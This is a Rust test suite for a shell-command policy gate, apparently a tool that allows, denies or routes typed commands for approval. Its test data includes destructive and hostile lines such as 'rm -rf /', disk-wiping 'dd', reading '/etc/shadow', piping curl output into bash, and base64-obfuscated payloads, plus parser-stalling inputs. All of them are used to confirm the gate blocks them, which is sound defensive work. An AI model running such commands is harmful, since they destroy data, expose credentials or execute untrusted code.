//! The policy's contract: the default policy on the case table, bad
//! policies rejected with file, line and reason, and precedence.

use std::path::Path;


use super::*;

#[test]
fn the_builtin_policy_parses() {
    Policy::parse(DEFAULT_POLICY, Path::new("default.toml")).unwrap();
}

const CASES: &str = include_str!("../../testdata/policy/default.cases.toml");

#[test]
fn the_default_policy_passes_its_case_table() {
    let file: cases::CaseFile = toml::from_str(CASES).unwrap();
    assert!(file.cases.len() >= 150, "only {} cases", file.cases.len());
    let policy = Policy::default_policy();
    let failures: Vec<String> = cases::run_cases(&policy, &file)
        .into_iter()
        .filter_map(|o| {
            o.failure.map(|f| {
                let cmds: Vec<String> = o.decision.commands.iter().map(|c| format!("{} {:?} {:?}", c.program, c.flags, c.args.iter().map(|a| &a.path).collect::<Vec<_>>())).collect();
                format!("{:?}: {f} {:?} {cmds:?}", o.case.line, o.decision.parse_error)
            })
        })
        .collect();
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[rstest::rstest]
#[case::unknown_field("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nprogram = [\"rm\"]\nflagz = [\"-r\"]\n", 6, "unknown field `flagz`")]
#[case::unknown_top_level("rules = 1\n", 1, "unknown field `rules`")]
#[case::unknown_arg_key("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nargs = [{ path_eq = [\"/\"] }]\n", 5, "unknown field `path_eq`")]
#[case::bad_regex("\n[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nraw = \"rm (\"\n", 2, "rule \"x\": raw: regex does not compile")]
#[case::bad_arg_regex("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nargs = [{ regex = \"[\" }]\n", 1, "args[0].regex: regex does not compile")]
#[case::bad_action("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"block\"\nprogram = [\"rm\"]\n", 1, "unknown action \"block\"")]
#[case::missing_name("[[rule]]\nname = \"a\"\nmessage = \"m\"\naction = \"deny\"\nprogram = [\"rm\"]\n\n[[rule]]\nmessage = \"m\"\naction = \"deny\"\nprogram = [\"rm\"]\n", 7, "rule #2: missing `name`")]
#[case::missing_message("[[rule]]\nname = \"x\"\naction = \"deny\"\nprogram = [\"rm\"]\n", 1, "missing `message`")]
#[case::no_matcher("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\n", 1, "no matcher")]
#[case::approve_without_approvers("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"approve\"\nprogram = [\"rm\"]\n", 1, "needs `approvers`")]
#[case::approvers_on_deny("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\napprovers = \"g\"\nprogram = [\"rm\"]\n", 1, "only apply to action = \"approve\"")]
#[case::bad_timeout("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"approve\"\napprovers = \"g\"\ntimeout = \"10 days\"\nprogram = [\"rm\"]\n", 1, "timeout")]
#[case::relative_path("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nargs = [{ path_under = [\"etc\"] }]\n", 1, "not an absolute path")]
#[case::duplicate_name("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nraw = \"a\"\n[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nraw = \"b\"\n", 6, "same name")]
#[case::wrong_type("[[rule]]\nname = \"x\"\nmessage = \"m\"\naction = \"deny\"\nprogram = \"rm\"\n", 5, "invalid type")]
#[case::bad_version("version = 2\n", 1, "unsupported policy version 2")]
#[case::bad_unknown("version = 1\n[policy]\nunknown = \"maybe\"\n", 2, "[policy] unknown = \"maybe\": expected deny, approve or allow")]
#[case::not_toml("[[rule]\n", 1, "")]
fn bad_policies_name_file_line_and_reason(#[case] text: &str, #[case] line: usize, #[case] reason: &str) {
    let err = Policy::parse(text, Path::new("/etc/custos/policy.toml")).unwrap_err().to_string();
    let prefix = format!("/etc/custos/policy.toml:{line}: ");
    assert!(err.starts_with(&prefix), "{err:?} should start with {prefix:?}");
    assert!(err.contains(reason), "{err:?} should mention {reason:?}");
}

#[test]
fn the_example_policy_parses() {
    Policy::parse(include_str!("../../testdata/policy/policy.example.toml"), Path::new("policy.example.toml")).unwrap();
}

fn alice() -> (Subject, Env) {
    (Subject { user: "alice".into(), groups: vec!["staff".into()], oidc_groups: vec![] }, Env::new("/home/alice", "/home/alice"))
}

#[test]
fn first_matching_rule_decides_a_command_and_the_most_severe_command_decides_the_line() {
    let policy = Policy::parse(
        "[[rule]]\nname = \"allow-tmp\"\nmessage = \"m\"\naction = \"allow\"\nprogram = [\"rm\"]\nargs = [{ path_under = [\"/tmp\"] }]\n\
         [[rule]]\nname = \"rm-approve\"\nmessage = \"m\"\naction = \"approve\"\napprovers = \"ops\"\nquorum = 2\ntimeout = \"15m\"\nprogram = [\"rm\"]\n\
         [[rule]]\nname = \"dd-deny\"\nmessage = \"no dd\"\naction = \"deny\"\nprogram = [\"dd\"]\n",
        Path::new("p.toml"),
    )
    .unwrap();
    let (who, env) = alice();
    assert_eq!(policy.check("rm /tmp/x", &who, &env).verdict, Verdict::Allow);
    let d = policy.check("rm x", &who, &env);
    assert_eq!(d.verdict, Verdict::Approve);
    let r = d.rule.unwrap();
    assert_eq!((r.name.as_str(), r.approvers.as_deref(), r.quorum, r.timeout.as_secs()), ("rm-approve", Some("ops"), 2, 900));
    let d = policy.check("rm x; dd if=a of=b; rm /tmp/y", &who, &env);
    assert_eq!((d.verdict, d.rule.unwrap().name.as_str(), d.command), (Verdict::Deny, "dd-deny", Some(1)));
    assert_eq!(policy.check("ls", &who, &env).verdict, Verdict::Allow);
}

#[test]
fn scopes_select_users_groups_and_oidc_groups() {
    let policy = Policy::parse(
        "[[rule]]\nname = \"contractors\"\nmessage = \"m\"\naction = \"deny\"\nusers = [\"bob\"]\ngroups = [\"contractors\"]\noidc_groups = [\"vendors\"]\nprogram = [\"psql\"]\n",
        Path::new("p.toml"),
    )
    .unwrap();
    let (mut who, env) = alice();
    assert_eq!(policy.check("psql", &who, &env).verdict, Verdict::Allow);
    who.groups.push("contractors".into());
    assert_eq!(policy.check("psql", &who, &env).verdict, Verdict::Deny);
    let (mut who, _) = alice();
    who.oidc_groups.push("vendors".into());
    assert_eq!(policy.check("psql", &who, &env).verdict, Verdict::Deny);
    who = Subject { user: "bob".into(), ..Subject::default() };
    assert_eq!(policy.check("psql", &who, &env).verdict, Verdict::Deny);
}

#[test]
fn unparseable_lines_are_denied_with_the_reason() {
    let (who, env) = alice();
    let d = Policy::default_policy().check("echo 'unterminated", &who, &env);
    assert_eq!(d.verdict, Verdict::Deny);
    assert_eq!(d.rule.unwrap().name, UNCHECKABLE_RULE);
    assert!(d.parse_error.unwrap().contains("does not parse"));
}

#[test]
fn adversarial_lines_get_a_verdict_quickly() {
    let (who, env) = alice();
    let policy = Policy::default_policy();
    let lines = [
        format!("echo {}", "a ".repeat(50_000)),
        "echo a; ".repeat(12_000),
        format!("{}true{}", "{ ".repeat(3000), " }".repeat(3000)),
        format!("{}true{}", "$(".repeat(3000), ")".repeat(3000)),
        format!("{}rm -rf /", "eval ".repeat(500)),
        "'".repeat(100_000),
        format!("echo {}", "{a,b}".repeat(40)),
        "(".repeat(100_000),
        "$(".repeat(60_000),
    ];
    for line in &lines {
        let t = std::time::Instant::now();
        let d = policy.check(line, &who, &env);
        assert!(t.elapsed() < std::time::Duration::from_secs(10), "{} bytes took {:?}", line.len(), t.elapsed());
        let _ = d.verdict;
    }
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(256))]
    /// However each word is quoted (single, double, backslashes, `$'...'`,
    /// mixed per character), the verdict is the same.
    #[test]
    fn quoting_never_changes_the_verdict(case in 0usize..LINES.len(), styles in proptest::collection::vec(0u8..5, 12)) {
        let (who, env) = alice();
        let policy = Policy::default_policy();
        let words = LINES[case];
        let plain: Vec<String> = words.iter().map(|w| requote(w, 1)).collect();
        let plain = plain.join(" ");
        let quoted: Vec<String> = words.iter().enumerate().map(|(i, w)| requote(w, styles[i % styles.len()])).collect();
        let quoted = quoted.join(" ");
        let a = policy.check(&plain, &who, &env);
        let b = policy.check(&quoted, &who, &env);
        proptest::prop_assert_eq!(a.verdict, b.verdict, "{} vs {}", plain, quoted);
        proptest::prop_assert_eq!(a.rule.map(|r| r.name), b.rule.map(|r| r.name));
    }
}

/// Words (no shell metacharacters) of lines with every kind of verdict.
const LINES: &[&[&str]] = &[
    &["rm", "-rf", "/"],
    &["sudo", "-u", "root", "rm", "--recursive", "--force", "/etc"],
    &["rm", "-rf", "./build"],
    &["chmod", "-R", "777", "/"],
    &["dd", "if=/dev/zero", "of=/dev/sda"],
    &["mkfs.ext4", "/dev/sdb1"],
    &["pg_dump", "app"],
    &["pg_dump", "--help"],
    &["kubectl", "-n", "prod", "delete", "pod", "web"],
    &["terraform", "destroy"],
    &["cat", "/etc/shadow"],
    &["echo", "rm", "-rf", "/"],
    &["bash", "-c", "rm -rf /"],
    &["env", "-i", "A=1", "rm", "-fr", "/usr"],
    &["psql", "-c", "DROP TABLE users"],
    &["scp", "-t", "/srv"],
];

fn requote(w: &str, style: u8) -> String {
    match style {
        // Unquoted only where that keeps it one word.
        0 if !w.contains(' ') => w.to_owned(),
        0 => format!("'{w}'"),
        1 => format!("'{}'", w.replace('\'', r"'\''")),
        2 => format!("\"{}\"", w.replace('\\', r"\\").replace('"', "\\\"").replace('$', "\\$").replace('`', "\\`")),
        3 => w.chars().map(|c| if c.is_alphanumeric() { c.to_string() } else { format!("\\{c}") }).collect::<Vec<_>>().concat(),
        _ => w
            .chars()
            .enumerate()
            .map(|(i, c)| match (i % 3, c) {
                (_, '\'') => "\\'".to_owned(),
                (0, c) => format!("'{c}'"),
                (1, c) if c != '"' && c != '\\' && c != '$' && c != '`' => format!("\"{c}\""),
                (_, c) if c.is_alphanumeric() => format!("\\{c}"),
                (_, c) => format!("'{c}'"),
            })
            .collect::<Vec<_>>()
            .concat(),
    }
}

/// What the checker cannot know: each form, the part it names, and its
/// verdict with a collector (approve) and without one (deny).
#[rstest::rstest]
#[case::substitution_as_name("$(cat x) -rf /", "the command name comes from $(cat x)")]
#[case::backquotes_as_name("`cat x` -rf /", "the command name comes from `cat x`")]
#[case::positional_as_name("\"$1\" -rf /x", "the command name comes from $1")]
#[case::all_positionals("\"$@\"", "the command name comes from $@")]
#[case::unknown_variable_as_name("$CMD -rf /x", "the command name comes from $CMD")]
#[case::read_then_run("read c <<< rm; $c -rf /x", "the command name comes from $c")]
#[case::assigned_from_substitution("c=$(cat x); $c -rf /x", "the command name comes from $c")]
#[case::set_by_eval("eval c=rm; $c -rf /x", "the command name comes from $c")]
#[case::printf_v("printf -v c rm; $c -rf /x", "the command name comes from $c")]
#[case::behind_sudo("sudo $(cat x) -rf /srv", "the command name comes from $(cat x)")]
#[case::glob_name("/bin/r? -rf /x", "the command name /bin/r? is a glob")]
#[case::glob_class_name("/bin/[r]m -rf /x", "the command name /bin/[r]m is a glob")]
#[case::glob_star_name("/usr/bin/*m -rf /x", "is a glob")]
#[case::protected_argument("rm -rf $(cat list)", "an argument of rm comes from $(cat list), and rule rm-root looks at rm's arguments")]
#[case::protected_quoted_argument("rm -rf \"$(cat list)\"", "rule rm-root")]
#[case::unknown_flags("rm $(cat opts) /", "an argument of rm comes from $(cat opts)")]
#[case::unknown_subcommand("kubectl $(cat verb) pod x", "an argument of kubectl comes from $(cat verb)")]
#[case::unknown_option_value("psql -c \"$(cat q.sql)\"", "rule sql-drop-truncate")]
#[case::decoded_into_bash("echo cm0gLXJmIC8K | base64 -d | bash", "bash runs code it reads from a pipe (from echo, base64)")]
#[case::decoded_into_sh("echo cm0gLXJmIC8K | base64 -d | sh", "sh runs code it reads from a pipe")]
#[case::into_python("cat payload | python3", "python3 runs a program it reads from a pipe (from cat)")]
#[case::into_perl("base64 -d < x | perl -w", "perl runs a program it reads from a pipe")]
#[case::eval_of_decoded("eval \"$(echo cm0gLXJmIC8K | base64 -d)\"", "the shell code eval runs comes from $(echo cm0gLXJmIC8K | base64 -d)")]
#[case::bash_c_of_substitution("bash -c \"$(cat x)\"", "the shell code bash runs comes from $(cat x)")]
#[case::su_c_of_variable("su -c \"$1\"", "the shell code su runs comes from $1")]
#[case::plus_b("bash +B -c 'ls'", "bash +B changes how the shell reads its code")]
#[case::plus_o("bash +o braceexpand -c 'ls'", "bash +o braceexpand changes")]
#[case::shopt("bash -O extglob -c 'ls'", "bash -O extglob changes")]
#[case::posix("sh -o posix -c 'ls'", "sh -o posix changes")]
#[case::zsh_option("zsh -o sh_word_split -c 'ls'", "zsh -o sh_word_split changes")]
#[case::for_over_substitution("for c in $(cat x); do $c -rf /x; done", "the command name comes from $c")]
fn what_the_checker_cannot_know_gets_the_unknown_verdict(#[case] line: &str, #[case] part: &str) {
    let (who, env) = alice();
    for (collector, want) in [(true, Verdict::Approve), (false, Verdict::Deny)] {
        let d = Policy::default_policy().with_collector(collector).check(line, &who, &env);
        assert_eq!(d.verdict, want, "{line} (collector: {collector}): {d:?}");
        let rule = d.rule.as_ref().unwrap();
        assert_eq!(rule.name, UNKNOWN_RULE, "{line}");
        assert!(rule.message.contains(part), "{line}: {}", rule.message);
        assert!(d.unknown.iter().any(|u| u.contains(part)), "{line}: {:?}", d.unknown);
        let decided = d.commands.get(d.command.unwrap()).unwrap();
        assert!(decided.unknown.is_some() || decided.unknown_args.is_some(), "{line}: {decided:?}");
    }
}

/// Ordinary work whose values the checker cannot all know, but where no
/// value could change which rule applies: allowed, nothing unknown.
#[rstest::rstest]
#[case("ls $(pwd)")]
#[case("echo \"$HOME\"")]
#[case("cd \"$dir\"")]
#[case("for f in *.log; do gzip \"$f\"; done")]
#[case("git log $(git rev-parse HEAD)")]
#[case("kubectl get pods $(cat names)")]
#[case("echo $(date) >> log")]
#[case("grep -r x $(git ls-files)")]
#[case("cat $(ls *.txt)")]
#[case("[ -f x ] && cat x")]
#[case("test -n \"$1\" && echo \"$1\"")]
#[case("echo $$ $? $# $!")]
#[case("rm -f /tmp/x.$$")]
#[case("rm -rf /tmp/build-$((1 + 2))")]
#[case("echo 'print(1)' > x.py; python3 x.py")]
#[case("python3 -c 'print(1)' | cat")]
#[case("echo ls | bash")]
#[case("bash -x -c 'ls'")]
#[case("bash +x -c 'ls'")]
#[case("sh -e -o pipefail -c 'ls'")]
#[case("ssh \"$(cat host)\" uptime")]
#[case("sudo -u \"$(whoami)\" systemctl status x")]
#[case("x=$(cat f); echo \"$x\"")]
#[case("while read -r l; do echo \"$l\"; done < f")]
fn ordinary_work_stays_allowed(#[case] line: &str) {
    let (who, env) = alice();
    for collector in [true, false] {
        let d = Policy::default_policy().with_collector(collector).check(line, &who, &env);
        assert_eq!(d.verdict, Verdict::Allow, "{line}: {:?} {:?}", d.rule, d.unknown);
        assert!(d.unknown.is_empty(), "{line}: {:?}", d.unknown);
    }
}

#[rstest::rstest]
#[case::plus_x("bash +x -c 'rm -rf /'")]
#[case::sh_plus_e("sh +e -c 'rm -rf /'")]
#[case::dash("dash +x -c 'rm -rf /'")]
#[case::zsh("zsh +x -c 'rm -rf /'")]
#[case::plus_o_value("bash +o xtrace -c 'rm -rf /'")]
#[case::minus_o_value("sh -o errexit +o nounset -c 'rm -rf /'")]
#[case::cluster("bash +xe -c 'rm -rf /'")]
fn plus_options_do_not_hide_a_shells_code(#[case] line: &str) {
    let (who, env) = alice();
    let d = Policy::default_policy().with_collector(true).check(line, &who, &env);
    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("rm-root".to_owned())), "{line}");
}

#[test]
fn a_value_the_caller_knows_is_used_not_called_unknown() {
    let (who, mut env) = alice();
    let policy = Policy::default_policy().with_collector(true);
    env.vars.insert("CMD".into(), "rm".into());
    let d = policy.check("$CMD -rf /", &who, &env);
    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("rm-root".to_owned())));
    assert!(d.unknown.is_empty(), "{:?}", d.unknown);
    env.vars.insert("CMD".into(), "ls".into());
    assert_eq!(policy.check("$CMD -l /", &who, &env).verdict, Verdict::Allow);
    env.vars.insert("LIST".into(), "/tmp/a /tmp/b".into());
    assert_eq!(policy.check("rm -rf $LIST", &who, &env).verdict, Verdict::Allow);
    // The hooks send every variable a line names that is set: one not sent
    // is unset, so `$SUDO apt update` runs `apt update`.
    let (_, mut hooked) = alice();
    hooked.complete = true;
    assert_eq!(policy.check("$SUDO ls -l", &who, &hooked).verdict, Verdict::Allow);
    assert_eq!(policy.check("$SUDO rm -rf /", &who, &hooked).rule.map(|r| r.name), Some("rm-root".to_owned()));
    // Positional parameters are never sent: unknown even then.
    assert_eq!(policy.check("\"$1\" -rf /x", &who, &hooked).rule.map(|r| r.name), Some(UNKNOWN_RULE.to_owned()));
}

#[test]
fn a_rule_at_least_as_severe_keeps_its_name_and_allow_reports_without_refusing() {
    let (who, env) = alice();
    let d = Policy::default_policy().with_collector(true).check("curl -s https://x.example | bash", &who, &env);
    assert_eq!((d.verdict, d.rule.map(|r| r.name)), (Verdict::Deny, Some("download-to-shell".to_owned())));
    assert!(!d.unknown.is_empty(), "the unknown part is still reported");
    let open = Policy::parse("[policy]\nunknown = \"allow\"\n", Path::new("p.toml")).unwrap().with_collector(false);
    let d = open.check("$(cat x) -rf /", &who, &env);
    assert_eq!((d.verdict, d.rule), (Verdict::Allow, None));
    assert_eq!(d.unknown, vec!["the command name comes from $(cat x)".to_owned()]);
    let strict = Policy::parse("[policy]\nunknown = \"deny\"\n", Path::new("p.toml")).unwrap().with_collector(true);
    assert_eq!(strict.check("$(cat x) -rf /", &who, &env).verdict, Verdict::Deny, "written out, the setting wins over the default");
}

#[test]
fn where_the_shell_traces_its_commands_run_time_code_is_checked_then() {
    let (who, mut env) = alice();
    env.traced = true;
    let policy = Policy::default_policy().with_collector(false);
    for line in ["eval \"$(dircolors -b)\"", "bash -c \"$(cat x)\"", "echo x | base64 -d | bash"] {
        assert_eq!(policy.check(line, &who, &env).verdict, Verdict::Allow, "{line}");
    }
    for line in ["$(cat x) -rf /", "rm -rf $(cat list)", "cat x | python3", "sh -c \"$(cat x)\"", "bash +B -c ls"] {
        assert_eq!(policy.check(line, &who, &env).rule.map(|r| r.name), Some(UNKNOWN_RULE.to_owned()), "{line}");
    }
}

#[test]
fn a_plain_argv_is_checked_in_tens_of_microseconds() {
    let (who, env) = alice();
    let policy = Policy::default_policy();
    let line = "/usr/bin/git -C /home/alice/src log --oneline -n 20 'a b'";
    let _ = policy.check(line, &who, &env);
    let n: u32 = 2000;
    let t = std::time::Instant::now();
    for _ in 0..n {
        assert_eq!(policy.check(line, &who, &env).verdict, Verdict::Allow);
    }
    let each = t.elapsed() / n;
    // Generous for an unoptimised build; release is several times faster.
    assert!(each < std::time::Duration::from_micros(500), "{each:?} per check");
}

/// With the exec backstop enforcing, an operand the checker cannot know
/// now is known when the program starts: not unknown at the line. A
/// command name or shell code from an unknowable value still is.
#[test]
fn operands_checked_again_at_exec_are_not_unknown_but_names_still_are() {
    let policy = Policy::default_policy();
    let (who, mut env) = alice();
    env.complete = true;
    let before = policy.check("rm -rf $(cat list)", &who, &env);
    assert_eq!(before.rule.as_ref().map(|r| r.name.as_str()), Some(UNKNOWN_RULE), "{before:?}");
    env.execs_checked = true;
    let after = policy.check("rm -rf $(cat list)", &who, &env);
    assert_eq!(after.verdict, Verdict::Allow, "{after:?}");
    let name = policy.check("$(cat x) -rf /", &who, &env);
    assert_eq!(name.rule.as_ref().map(|r| r.name.as_str()), Some(UNKNOWN_RULE), "{name:?}");
    let code = policy.check("echo x | base64 -d | bash", &who, &env);
    assert_ne!(code.verdict, Verdict::Allow, "{code:?}");
}

/// Found by the policy fuzz target: a run of `(` made the parser backtrack
/// (its time doubled with each one; `(( ` 22 times never returned), so a
/// typed line could stall the gate. Refused at once as uncheckable.
#[rstest::rstest]
#[case("D=/etc;((((((((((((((((((((((((- rmrf \"$D\"")]
#[case("(( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( (( ((")]
#[case("((((((((((((((((((((((a;))))))))))))))))))))))")]
#[case("bash -c '( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( ( - rm'")]
#[case("echo \"$(( (( (( (( (( (( (( (( (( (( (( ((\"")]
fn runs_of_parentheses_are_refused_at_once(#[case] line: &str) {
    let (who, env) = alice();
    let t = std::time::Instant::now();
    let d = Policy::default_policy().check(line, &who, &env);
    assert_eq!(d.verdict, Verdict::Deny, "{line}: {d:?}");
    assert!(d.parse_error.as_deref().is_some_and(|e| e.contains("( in a row")), "{line}: {d:?}");
    assert!(t.elapsed() < std::time::Duration::from_secs(2), "{line}: {:?}", t.elapsed());
}

/// What people write with parentheses is still checked.
#[rstest::rstest]
#[case("echo $((1 + (2 * (3 + 4))))")]
#[case("((i++)); ( (cd /tmp && ls) )")]
#[case("echo '(((((((((((('")]
#[case("echo \\(\\(\\(\\(\\(\\(\\(\\(\\(\\(")]
fn ordinary_parentheses_are_checked(#[case] line: &str) {
    let (who, env) = alice();
    let d = Policy::default_policy().check(line, &who, &env);
    assert!(d.parse_error.is_none(), "{line}: {d:?}");
}

/// Found by the policy fuzz target: a file descriptor number that does not
/// fit an i32 made the parser panic (and the recorder with it). Refused as
/// uncheckable, in every redirection form and inside substitutions.
#[rstest::rstest]
#[case("x 99999999999999999999>f")]
#[case("x 2147483648<f")]
#[case("x 99999999999999999999>>f")]
#[case("exec 99999999999999999999<&-")]
#[case("echo `x 99999999999999999999> f`")]
#[case("echo \"$(x 99999999999999999999<<<a)\"")]
#[case("bash -c 'x 99999999999999999999>f'")]
fn huge_file_descriptor_numbers_are_refused_not_a_panic(#[case] line: &str) {
    let (who, env) = alice();
    let d = Policy::default_policy().check(line, &who, &env);
    assert_eq!(d.verdict, Verdict::Deny, "{line}: {d:?}");
    assert!(d.parse_error.as_deref().is_some_and(|e| e.contains("file descriptor number")), "{line}: {d:?}");
}

/// Ordinary numbers and redirections are still checked.
#[rstest::rstest]
#[case("ls 2>/dev/null; echo 123456789 > count")]
#[case("exec 3<&0 4>&1")]
#[case("echo '99999999999999999999>f'")]
#[case("date +%s >> log; echo 1733600000000 > ts")]
fn ordinary_numbers_before_redirections_are_checked(#[case] line: &str) {
    let (who, env) = alice();
    let d = Policy::default_policy().check(line, &who, &env);
    assert!(d.parse_error.is_none(), "{line}: {d:?}");
}

/// Found by the policy fuzz target: a here-document tag that is empty once
/// brush-parser has trimmed it and dropped its quotes (`''`, `""`, `"'"`, a
/// form feed, a carriage return), then a blank at the end of the line, made
/// its tokenizer loop for ever, allocating (2 GB in 10 s). Refused at once;
/// ordinary here-documents and here-strings, empty ones included, are still
/// checked.
#[rstest::rstest]
#[case("<<\x0c ", true)]
#[case("cat <<\r\t", true)]
#[case("cat <<-\x0c ", true)]
#[case("bash -c 'cat << \x0c '", true)]
#[case("cat <<'' ", true)]
#[case("cat <<- \"\" ", true)]
#[case("cat <<\"'\" ", true)]
#[case("cat <<'\"'\"\" ;", true)]
#[case("\\\\<<'' ", true)]
#[case("\\<<'' ", false)]
#[case("x <<<<<'' ", true)]
#[case("eval \"$(echo 'cat <<\"\" ')\"", true)]
#[case("eval $(``<< <a\n#", true)]
#[case("x $(cat << )", true)]
#[case("$(cat <<  $ ", true)]
#[case("$(cat <<- \t\"x\" ", true)]
#[case("x=$(cat << EOF\nhi\nEOF\n)", false)]
#[case("cat <<  EOF\nhi\nEOF", false)]
#[case("echo ${x:-<<''} ", true)]
#[case("cat <<", true)]
#[case("cat <<EOF \nhello\nEOF", false)]
#[case("cat <<-\tEOF\nx\nEOF", false)]
#[case("cat <<'EOF'\n$x\nEOF", false)]
#[case("cat <<\\EOF\nx\nEOF", false)]
#[case("cat <<'\\'' ", false)]
#[case("grep x <<< \"$v\"", false)]
#[case("grep x <<< '' ", false)]
#[case("grep x <<<\"\"", false)]
#[case("echo $((1 << 2))", false)]
fn degenerate_here_document_tags_are_refused_at_once(#[case] line: &str, #[case] refused: bool) {
    let (who, env) = alice();
    let started = std::time::Instant::now();
    let d = Policy::default_policy().check(line, &who, &env);
    assert!(started.elapsed() < std::time::Duration::from_secs(2), "{line:?} took {:?}", started.elapsed());
    let said = d.parse_error.as_deref().is_some_and(|e| e.contains("here-document tag"));
    assert_eq!(said, refused, "{line:?}: {d:?}");
    if refused {
        assert_eq!(d.verdict, Verdict::Deny, "{line:?}");
    }
}

/// Every short here-document tag made of the characters that decide
/// whether brush-parser can end it (quotes, a backslash, control
/// characters, a blank, a separator, a letter), after every form of the
/// operator, is checked without hanging: a tag the check lets through is
/// one the tokenizer ends. A miss shows as this test running out of
/// memory.
#[test]
fn no_short_here_document_tag_hangs_the_checker() {
    let (who, env) = alice();
    let policy = Policy::default_policy();
    let alphabet = ["'", "\"", "\\", "\x0c", "\r", "\x0b", " ", ";", "<", ")", "}", "`", "x", "$"];
    let mut tags = vec![String::new()];
    for _ in 0..4 {
        let longer: Vec<String> = tags.iter().flat_map(|t| alphabet.iter().map(move |c| format!("{t}{c}"))).collect();
        tags.extend(longer);
    }
    tags.sort();
    tags.dedup();
    let mut refused = 0;
    for op in ["cat <<", "cat <<-", "\\<<", "cat <<<<<", "cat << ", "$(cat <<", "$(cat <<-", "${x:-<<", "`<<", "eval $(``<<"] {
        for tag in &tags {
            for end in ["", " ", "\n"] {
                let line = format!("{op}{tag}{end}");
                let d = policy.check(&line, &who, &env);
                refused += usize::from(d.parse_error.as_deref().is_some_and(|e| e.contains("here-document tag")));
            }
        }
    }
    assert!(refused > 0, "no tag of {} was refused", tags.len());
}

/// Found by the policy fuzz target: a brace sequence bound that does not
/// fit an i64 made brush-parser panic. Refused as uncheckable; ordinary
/// sequences and long numbers elsewhere are still checked.
#[rstest::rstest]
#[case("echo {99999999999999999999..1}", true)]
#[case("rm -rf /tmp/{1..9223372036854775808}", true)]
#[case("echo {1..10} {a..z}", false)]
#[case("echo {1,99999999999999999999} 99999999999999999999", false)]
fn huge_brace_sequence_bounds_are_refused_not_a_panic(#[case] line: &str, #[case] refused: bool) {
    let (who, env) = alice();
    let d = Policy::default_policy().check(line, &who, &env);
    if refused {
        assert_eq!(d.verdict, Verdict::Deny, "{line}: {d:?}");
        assert!(d.parse_error.as_deref().is_some_and(|e| e.contains("19 digits")), "{line}: {d:?}");
    } else {
        assert!(d.parse_error.is_none(), "{line}: {d:?}");
    }
}
